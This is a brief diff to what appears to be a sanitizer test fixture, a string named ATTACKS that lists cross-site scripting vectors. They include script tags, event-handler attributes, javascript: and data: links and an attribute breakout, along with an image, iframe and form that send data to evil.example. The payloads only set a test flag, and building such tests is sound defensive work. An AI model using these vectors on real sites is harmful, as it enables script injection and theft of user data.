@@ -44,13 +44,14 @@ See the [original paper](https://example.org/attention) for the details."""
 
 ATTACKS = """<script>window.attacked = 1</script>
 <img src=x onerror="window.attacked = 2">
+
 [link](javascript:window.attacked=3) ![pixel](https://evil.example/collect?q=secret)
 <a href="javascript:window.attacked=4">raw</a> <iframe src="https://evil.example/"></iframe>
 
 <svg onload="window.attacked = 5"></svg> <style>body { display: none }</style>
 <form action="https://evil.example/"><input name="key"></form>
 
-[data](data:text/html,<script>window.attacked=6</script>) [x](<https://ok.example/" onclick="window.attacked=7>)
+[data](data:text/html,<script>window.attacked=6</script>) [x](<https://ok.io/" onclick="window.attacked=7>)
 
 ```html"><img src=x onerror=window.attacked=8>
 <script>window.attacked = 9</script>
